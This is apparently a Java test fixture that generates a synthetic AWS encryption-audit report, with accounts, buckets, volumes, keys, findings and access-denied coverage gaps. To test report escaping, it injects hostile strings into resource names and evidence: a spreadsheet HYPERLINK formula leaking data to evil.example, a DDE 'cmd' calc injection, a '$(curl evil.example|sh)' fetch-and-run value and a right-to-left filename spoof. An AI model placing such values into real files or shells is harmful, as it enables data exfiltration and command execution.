package dev.atrest.writers;

import dev.atrest.model.Account;
import dev.atrest.model.Calls;
import dev.atrest.model.Coverage;
import dev.atrest.model.DataProtectionClass;
import dev.atrest.model.Evidence;
import dev.atrest.model.FactSheet;
import dev.atrest.model.Finding;
import dev.atrest.model.FindingStatus;
import dev.atrest.model.Resource;
import dev.atrest.model.ResourceType;
import dev.atrest.model.Rule;
import dev.atrest.model.UnreadFact;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.Stream;

/** A German enterprise: seven accounts, one of which refuses and one of which is suspended, and what has been found there. */
public final class SampleReport {

    public static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    public static final String CONTROL_CHARACTERS = "a\u0000b\u0007c\u001b[31md\u009be";
    public static final String RIGHT_TO_LEFT = "invoice\u202Egnp.exe\u2066";
    public static final String EMOJI_AND_SCRIPTS = "Schlüssel 🔑 für 東京 und Αθήνα и Москва";
    public static final String LONE_SURROGATE = "half\ud83d";
    public static final String LONG = "sehr-lange-bezeichnung-".repeat(13) + "x";

    private static final List<String> HOSTILE = List.of(
            FORMULA,
            CONTROL_CHARACTERS,
            RIGHT_TO_LEFT,
            EMOJI_AND_SCRIPTS,
            LONE_SURROGATE,
            LONG,
            "+49 89 1234",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\t=1+1",
            "＝1+1",
            "two\nlines, \"quoted\"; and a semicolon",
            "<b>bold</b> & ]]> _x0041_",
            "$(curl evil.example|sh)");

    private static final List<Account> ACCOUNTS = List.of(
            new Account("111122223333", "Konzern-Verwaltung", "ACTIVE", "Root"),
            new Account("222233334444", "Protokoll-Archiv", "ACTIVE", "Root/Sicherheit"),
            new Account("333344445555", "Kundenportal Produktion", "ACTIVE", "Root/Workloads/Prod"),
            new Account("444455556666", "Kundenportal Test & Abnahme", "ACTIVE", "Root/Workloads/Test"),
            new Account("555566667777", "Datenplattform Größenklasse Ü", "ACTIVE", "Root/Workloads/Prod"),
            new Account("666677778888", "Übernahme Müller GmbH", "ACTIVE", "Root/Übernahmen"),
            new Account("777788889999", "Altsystem (gesperrt)", "SUSPENDED", "Root/Stillgelegt"));
    private static final List<String> REGIONS = List.of("eu-central-1", "eu-west-1", "us-east-1");
    private static final Instant READ_AT = Instant.parse("2026-11-22T23:12:09.417Z");

    private SampleReport() {}

    public static MemoryReport enterprise() {
        var random = new Random(20261122);
        var resources = resources(random);
        return new MemoryReport(
                "20261122T230004Z",
                ACCOUNTS,
                SampleRules.all(),
                SampleRules.frameworks(),
                resources,
                resources.stream()
                        .flatMap(resource -> SampleRules.all().stream()
                                .filter(rule -> rule.resource() == resource.type())
                                .map(rule -> finding(rule, resource, random)))
                        .toList(),
                coverage(resources));
    }

    public static MemoryReport empty() {
        return new MemoryReport(
                "20261122T230004Z",
                List.of(),
                SampleRules.all(),
                SampleRules.frameworks(),
                List.of(),
                List.of(),
                List.of());
    }

    public static MemoryReport onlyGaps() {
        return new MemoryReport(
                "20261122T230004Z",
                ACCOUNTS,
                SampleRules.all(),
                SampleRules.frameworks(),
                List.of(),
                List.of(),
                ACCOUNTS.stream()
                        .map(account -> denied(account.id(), Coverage.ALL_REGIONS, ResourceType.S3_BUCKET))
                        .toList());
    }

    private static List<Resource> resources(Random random) {
        var resources = new ArrayList<Resource>();
        int hostile = 0;
        for (Account account : ACCOUNTS.subList(0, 5)) {
            resources.add(resource(ResourceType.ACCOUNT_SETTINGS, account.id(), "", 0, account.name()));
            for (String region : REGIONS) {
                resources.add(resource(ResourceType.REGION_SETTINGS, account.id(), region, 0, region));
                int number = region.equals("eu-central-1") ? 12 : 2;
                for (int i = 0; i < number; i++) {
                    boolean strange = random.nextInt(6) == 0;
                    String odd = HOSTILE.get(hostile % HOSTILE.size());
                    hostile += strange ? 1 : 0;
                    resources.add(
                            resource(ResourceType.S3_BUCKET, account.id(), region, i, "kp-daten-" + region + "-" + i));
                    resources.add(resource(
                            ResourceType.EBS_VOLUME, account.id(), region, i, strange ? odd : "srv-" + i + "-daten"));
                    resources.add(resource(ResourceType.EBS_SNAPSHOT, account.id(), region, i, "Sicherung Büro " + i));
                    if (i % 2 == 0) {
                        resources.add(
                                resource(ResourceType.KMS_KEY, account.id(), region, i, "alias/kundendaten-" + i));
                    }
                }
            }
            resources.add(resource(ResourceType.TRAIL, account.id(), "eu-central-1", 0, "konzern-trail"));
        }
        return resources;
    }

    private static Resource resource(ResourceType type, String account, String region, int i, String name) {
        String id = "%08x%04x".formatted((account + region).hashCode(), i);
        String arn = switch (type) {
            case S3_BUCKET -> "arn:aws:s3:::" + name + "-" + account;
            case EBS_VOLUME -> "arn:aws:ec2:" + region + ":" + account + ":volume/vol-0" + id;
            case EBS_SNAPSHOT -> "arn:aws:ec2:" + region + ":" + account + ":snapshot/snap-0" + id;
            case KMS_KEY ->
                "arn:aws:kms:" + region + ":" + account + ":key/" + id.substring(0, 8) + "-0000-4000-8000-" + id;
            case TRAIL -> "arn:aws:cloudtrail:" + region + ":" + account + ":trail/" + name;
            case ACCOUNT_SETTINGS, REGION_SETTINGS -> "arn:aws:account:" + region + ":" + account + ":settings";
        };
        String shown = type == ResourceType.S3_BUCKET ? name + "-" + account : name;
        return new Resource(arn, type, account, region, shown, READ_AT, new FactSheet(Map.of(), Map.of(), Map.of()));
    }

    private static Finding finding(Rule rule, Resource resource, Random random) {
        int dice = random.nextInt(100);
        FindingStatus status = dice < 72
                ? FindingStatus.PASS
                : dice < 91 ? FindingStatus.FAIL : dice < 97 ? FindingStatus.NOT_ASSESSED : FindingStatus.WAIVED;
        Optional<DataProtectionClass> dataClass = switch (resource.type()) {
            case S3_BUCKET, EBS_VOLUME, EBS_SNAPSHOT ->
                status == FindingStatus.NOT_ASSESSED
                        ? Optional.empty()
                        : Optional.of(DataProtectionClass.values()[random.nextInt(3)]);
            default -> Optional.empty();
        };
        var encryption = new TreeMap<String, Object>(Map.of("algorithm", "aws:kms", "bucketKeyEnabled", true));
        return new Finding(
                rule.id(),
                status,
                rule.severity(),
                resource.arn(),
                resource.type(),
                resource.accountId(),
                resource.region(),
                resource.name(),
                dataClass,
                resource.name() + ": default encryption is AES256 with an AWS key",
                List.of(
                        new Evidence("encryption", encryption, "s3:GetBucketEncryption"),
                        new Evidence("note", FORMULA, "s3:GetBucketTagging"),
                        new Evidence("rotation.periodDays", 365L, "kms:GetKeyRotationStatus"),
                        new Evidence("validTo", null, "kms:DescribeKey")),
                status == FindingStatus.NOT_ASSESSED
                        ? List.of(new UnreadFact("encryption", "s3:GetBucketEncryption", "AccessDenied"))
                        : List.of(),
                rule.controls(),
                resource.readAt());
    }

    private static List<Coverage> coverage(List<Resource> resources) {
        var rows = new ArrayList<Coverage>();
        for (Account account : ACCOUNTS.subList(0, 5)) {
            for (ResourceType type : ResourceType.values()) {
                if (type.scope() == ResourceType.Scope.ACCOUNT) {
                    rows.add(complete(account.id(), Coverage.GLOBAL, type, resources));
                } else {
                    REGIONS.forEach(region -> rows.add(complete(account.id(), region, type, resources)));
                }
            }
        }
        rows.set(1, partial(rows.get(1)));
        rows.set(20, partial(rows.get(20)));
        Coverage throttled = rows.get(40);
        rows.set(
                40,
                new Coverage(
                        throttled.accountId(),
                        throttled.region(),
                        throttled.type(),
                        Coverage.Status.FAILED,
                        0,
                        0,
                        Optional.of(new Coverage.Gap(
                                "kms:ListKeys", "ThrottlingException", "Rate exceeded, given up after 10 attempts"))));
        for (ResourceType type : ResourceType.values()) {
            rows.add(denied(ACCOUNTS.get(5).id(), Coverage.ALL_REGIONS, type));
        }
        for (ResourceType type : ResourceType.values()) {
            rows.add(Coverage.excluded(
                    ACCOUNTS.get(6).id(),
                    Coverage.ALL_REGIONS,
                    type,
                    Coverage.Reason.ACCOUNT_SUSPENDED,
                    Optional.empty()));
        }
        Stream.of(ResourceType.values())
                .filter(type -> type.scope() == ResourceType.Scope.REGION)
                .forEach(type -> {
                    rows.add(closed(ACCOUNTS.get(4).id(), "ap-southeast-1", type));
                    for (Account account : ACCOUNTS.subList(0, 5)) {
                        rows.add(Coverage.excluded(
                                account.id(),
                                "me-south-1",
                                type,
                                Coverage.Reason.REGION_NOT_ENABLED,
                                Optional.empty()));
                    }
                });
        rows.sort(Comparator.comparing(Coverage::accountId).thenComparing(Coverage::region));
        return rows;
    }

    private static Calls calls(long made, long throttled) {
        return new Calls(
                made,
                throttled,
                throttled,
                0,
                Optional.of(Instant.parse("2026-11-22T23:01:07Z")),
                Optional.of(Instant.parse("2026-11-22T23:04:41.250Z")));
    }

    /** By a service control policy. */
    private static Coverage closed(String account, String region, ResourceType type) {
        String call = "%s:Describe%ss".formatted(type == ResourceType.KMS_KEY ? "kms" : "ec2", type.label());
        return new Coverage(
                account,
                region,
                type,
                Coverage.Status.DENIED,
                0,
                0,
                Optional.of(new Coverage.Gap(
                        call,
                        "AccessDeniedException",
                        "User: arn:aws:sts::" + account + ":assumed-role/atrest-audit/atrest is not authorized to"
                                + " perform: " + call + " with an explicit deny in a service control policy",
                        "5c0f3b0e-6b1c-4a43-9d0f-1b8f8a3f6d" + type.ordinal() + "0",
                        "")),
                Optional.of(Coverage.Reason.SERVICE_CONTROL_POLICY),
                calls(1, 0));
    }

    private static Coverage complete(String account, String region, ResourceType type, List<Resource> resources) {
        long number = resources.stream()
                .filter(resource -> resource.accountId().equals(account) && resource.type() == type)
                .filter(resource ->
                        region.equals(Coverage.GLOBAL) || resource.region().equals(region))
                .count();
        return new Coverage(
                account,
                region,
                type,
                Coverage.Status.COMPLETE,
                number,
                0,
                Optional.empty(),
                Optional.empty(),
                calls(7 * number + 1, number / 3));
    }

    private static Coverage partial(Coverage row) {
        return new Coverage(
                row.accountId(),
                row.region(),
                row.type(),
                Coverage.Status.PARTIAL,
                row.resources(),
                3,
                Optional.of(new Coverage.Gap(
                        "kms:GetKeyPolicy",
                        "AccessDeniedException",
                        "User: arn:aws:sts::111122223333:assumed-role/atrest-audit/atrest is not authorized to perform:"
                                + " kms:GetKeyPolicy on this resource with an explicit deny in a resource-based policy",
                        "9XF2A0JMC0V7B3QT",
                        "vZ6VUQ1uYbQ0nT2fJ8rXh1O0mB9eT5sKcWqLw0Jk3lP7yRzD4aGxN6iEoHfSu2Cp")),
                Optional.empty(),
                row.calls());
    }

    private static Coverage denied(String account, String region, ResourceType type) {
        return new Coverage(
                account,
                region,
                type,
                Coverage.Status.DENIED,
                0,
                0,
                Optional.of(new Coverage.Gap(
                        "sts:AssumeRole",
                        "AccessDenied",
                        "User is not authorized to perform: sts:AssumeRole on resource:" + " arn:aws:iam::" + account
                                + ":role/atrest-audit")));
    }
}
